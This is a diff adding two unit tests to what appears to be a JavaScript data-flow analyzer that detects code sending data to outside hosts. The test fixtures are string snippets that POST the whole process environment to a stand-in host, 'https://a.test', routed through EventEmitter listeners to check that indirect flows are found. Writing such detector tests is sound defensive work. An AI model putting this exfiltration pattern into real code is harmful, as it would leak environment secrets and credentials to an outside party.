@@ -24,6 +24,21 @@ test.each([
   expect(sends(source)).toBe(true);
 });
 
+test('who listens may call methods of what is told', () => {
+  const code = `class Own { run() { fetch('https://a.test', { method: 'POST', body: JSON.stringify(process.env) }); } }
+    const bus = new EventEmitter(); const api = { on: bus.on.bind(bus), load() { bus.emit('ready', new Own()); } };
+    const { on } = api; on('ready', (one) => one.run()); api.load();`;
+  const { flows } = analyzeJs(`import { EventEmitter } from 'events'; ${code}`).flow;
+  expect(flows.map(({ live }) => live)).toEqual([true]);
+});
+
+test('who listens is given a host, too', () => {
+  const code = `const bus = new EventEmitter(); bus.on('to', ({ host, body }) => fetch(host, { method: 'POST', body }));
+    bus.emit('to', { host: 'https://a.test/x', body: process.env });`;
+  const { flows } = analyzeJs(`import { EventEmitter } from 'events'; ${code}`).flow;
+  expect(flows.flatMap(({ targets }) => targets.map(({ text }) => text))).toContain('https://a.test/x');
+});
+
 test.each([
   [
     'another event',
